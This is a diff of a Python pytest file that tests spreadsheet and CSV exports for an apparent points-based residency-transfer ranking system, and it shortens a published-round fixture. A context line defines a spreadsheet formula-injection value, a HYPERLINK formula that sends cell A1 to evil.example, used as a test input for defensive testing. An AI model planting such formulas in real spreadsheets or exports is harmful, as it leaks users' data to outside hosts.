@@ -2,15 +2,12 @@
 
 import csv
 import io
-from datetime import date
 from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
 
-from jifen import clock, programs, publication
 from jifen.exchange.spreadsheets import csv_chunks, read_table, write_xlsx
-from jifen.models import Application, ProgramApplication, RankingResult, RankingRun
 
 from .helpers import xlsx_rows
 
@@ -19,32 +16,9 @@ TOWN = '=HYPERLINK("http://evil.example/?"&A1,"魏塘街道")'  # a cell meant t
 
 
 @pytest.fixture
-def published_round(county, make_user, monkeypatch):
+def published_round(hand_ranked_round):
     """A Jiashan hukou round with a current run (made by hand) published provisionally."""
-    monkeypatch.setattr(clock, "today", lambda: date(2027, 3, 1))
-    people = [make_user("jiashan", real_name=name) for name in NAMES]
-    with county("jiashan") as session:
-        program = programs.programs(session)["hukou_transfer"]
-        found = programs.create_round(session, program, {"name": "2027 第一批", "opens_on": "2027-01-01",
-                                                          "closes_on": "2027-02-28", "quota": 2}, actor="test")
-        run = RankingRun(round_id=found.id, seed=7, digest="cd" * 32, input_count=3, allocated_count=2,
-                         cutoff=Decimal("88.00"), is_current=True, actor="test")
-        session.add(run)
-        session.flush()
-        numbers = []
-        for position, (person, points) in enumerate(zip(people, ("95", "88", "80")), start=1):
-            session.add(Application(user_id=person.id, status="confirmed", total_points=points))
-            entry = ProgramApplication(round_id=found.id, user_id=person.id, sub_quota=TOWN)
-            session.add(entry)
-            session.flush()
-            numbers.append(entry.id)
-            session.add(RankingResult(run_id=run.id, program_application_id=entry.id, position=position,
-                                      sub_quota=TOWN, sub_position=position, points=Decimal(points),
-                                      outcome="allocated" if position <= 2 else "waitlisted",
-                                      allocation_round=1 if position <= 2 else None))
-        publication.publish_provisional(session, found, program, actor="test")
-        session.commit()
-        return {"round": found.id, "people": people, "numbers": numbers}
+    return hand_ranked_round(points=("95", "88", "80"), sub_quota=TOWN, digest="cd" * 32, publish=True)
 
 
 def test_the_published_list_as_xlsx_has_the_csvs_masked_rows_and_the_digest(client, published_round):
